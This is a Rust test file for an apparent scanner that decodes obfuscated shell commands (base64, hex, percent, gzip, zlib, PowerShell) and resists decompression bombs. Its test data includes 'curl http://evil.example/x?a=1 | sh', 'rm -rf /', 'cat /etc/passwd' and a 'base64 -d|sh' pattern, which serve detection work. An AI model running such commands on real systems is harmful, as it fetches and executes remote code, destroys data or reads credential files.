use std::io::Write;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};

use super::EncodingKind::*;
use super::*;

const COMMAND: &str = "curl http://evil.example/x?a=1 | sh # ~ÿ";

fn texts(text: &str) -> Vec<(EncodingKind, u8, String)> {
    let layers = encodings(text);
    assert!(layers.complete, "{text}");
    let shown = |layer: Layer| (layer.kind, layer.depth, layer.text.unwrap_or_default());
    layers.found.into_iter().map(shown).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn hex(bytes: &[u8], before: &str, between: &str) -> String {
    let digits: Vec<String> = bytes.iter().map(|b| format!("{before}{b:02x}")).collect();
    digits.join(between)
}

#[test]
fn each_encoding_is_undone() {
    let bytes = COMMAND.as_bytes();
    for (encoded, kind) in [
        (STANDARD.encode(bytes), Base64),
        (STANDARD_NO_PAD.encode(bytes), Base64),
        (URL_SAFE_NO_PAD.encode(bytes), Base64),
        (hex(bytes, "", ""), Hex),
        (format!("0x{}", hex(bytes, "", "")), Hex),
        (hex(bytes, "\\x", ""), HexEscape),
        (hex(bytes, "0x", ", "), HexEscape),
        (hex(bytes, "%", ""), Percent),
    ] {
        let text = format!("echo '{encoded}' | x");
        assert_eq!(texts(&text), [(kind, 1, COMMAND.to_owned())], "{text}");
    }
}

#[test]
fn short_commands_are_found() {
    for command in ["rm -rf /", "cat /etc/passwd", "whoami && id"] {
        let text = format!("echo {}|base64 -d|sh", STANDARD.encode(command));
        assert_eq!(texts(&text), [(Base64, 1, command.to_owned())], "{text}");
    }
    assert_eq!(texts("printf '\\x72\\x6d\\x20'")[0].2, "rm ");
    assert_eq!(texts("cat%20/etc/passwd")[0].2, "cat /etc/passwd");
}

#[test]
fn wrapped_lines_belong_together() {
    let whole = STANDARD.encode(COMMAND.repeat(5));
    for end in ["\n", "\r\n"] {
        let lines: Vec<&str> = whole
            .as_bytes()
            .chunks(76)
            .map(|c| str::from_utf8(c).unwrap())
            .collect();
        let text = format!("x <<E\n{}\nE", lines.join(end));
        assert_eq!(texts(&text)[0].2, COMMAND.repeat(5));
    }
}

#[test]
fn powershell_commands_are_read() {
    let wide: Vec<u8> = "Get-Item C:".bytes().flat_map(|b| [b, 0]).collect();
    let text = format!("pwsh -enc {}", STANDARD.encode(wide));
    assert_eq!(texts(&text)[0].2, "Get-Item C:");
}

#[test]
fn layers_are_followed_to_their_limit() {
    let packed = STANDARD.encode(gzip(COMMAND.as_bytes()));
    let found = texts(&format!("x {packed}"));
    assert_eq!(found[0].0, Base64);
    assert_eq!(found[1], (Gzip, 2, COMMAND.to_owned()));
    let found = texts(&hex(&zlib(COMMAND.as_bytes()), "", ""));
    assert_eq!(found[1], (Zlib, 2, COMMAND.to_owned()));
    let three = STANDARD.encode(STANDARD.encode(STANDARD.encode(COMMAND)));
    assert_eq!(
        texts(&three).last().unwrap(),
        &(Base64, 3, COMMAND.to_owned())
    );
    let four = encodings(&STANDARD.encode(&three));
    assert_eq!(four.found.len(), 3);
    assert!(
        !four.complete,
        "a fourth layer is not passed over in silence"
    );
}

#[test]
fn a_place_is_that_of_the_outermost_layer() {
    let inner = STANDARD.encode(STANDARD.encode(COMMAND));
    let layers = encodings(&format!("é {inner}")).found;
    assert!(layers.iter().all(|layer| layer.at == 3));
}

#[test]
fn a_bomb_stops_at_the_budget() {
    let bomb = STANDARD.encode(gzip(&vec![b'a'; 64 * MAX_DECODED_BYTES]));
    let layers = encodings(&bomb);
    assert!(!layers.complete);
    let decoded: usize = layers.found.iter().map(|layer| layer.bytes).sum();
    assert!(decoded <= MAX_DECODED_BYTES + bomb.len());
}

#[test]
fn broken_data_is_said_to_be_incomplete() {
    let mut packed = gzip(COMMAND.as_bytes());
    packed.truncate(packed.len() - 6);
    assert!(!encodings(&STANDARD.encode(packed)).complete);
}

#[test]
fn programs_are_known_by_their_first_bytes() {
    let program = [b"\x7fELF\x02\x01\x01\x00".as_slice(), &[0; 40]].concat();
    let layers = encodings(&STANDARD.encode(program)).found;
    assert_eq!((layers.len(), &layers[0].text), (1, &None));
}

#[test]
fn words_and_paths_are_not_encoded() {
    for text in [
        "getElementByIdOrThrow documentElementsByName",
        "src/Main/Application/Controller/HomeController.java",
        "/usr/lib/x86_64-linux-gnu/ImageMagick-6.9.11/modules-Q16/coders",
        "d41d8cd98f00b204e9800998ecf8427e",
        "550e8400-e29b-41d4-a716-446655440000",
        "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
        "date +%Y%m%d_%H%M%S; printf '%20s|%05d|%10.2f' a 1 2",
        "find . -printf '%f %s\\n'; stat -c '%a %n'; 100%",
        "1234567890123456 20240101123456789012",
        "--no-Verify-Host-Certificate --Enable_Some_Feature",
        "\\x00\\x1b\\x7f 0x00, 0x01",
    ] {
        assert_eq!(texts(text), [], "{text}");
    }
}
